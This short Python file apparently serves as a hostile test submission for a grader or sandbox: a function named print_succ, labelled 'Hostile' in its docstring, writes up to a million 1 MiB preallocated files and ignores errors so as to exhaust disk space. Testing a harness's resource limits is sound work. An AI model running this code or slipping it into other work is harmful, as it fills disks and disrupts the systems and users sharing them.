"""Hostile: writes files until none can be written."""

import os


def print_succ(state):
    for number in range(1_000_000):
        try:
            with open(f"left-by-a-submission-{number}", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 1 << 20)
        except OSError:
            pass
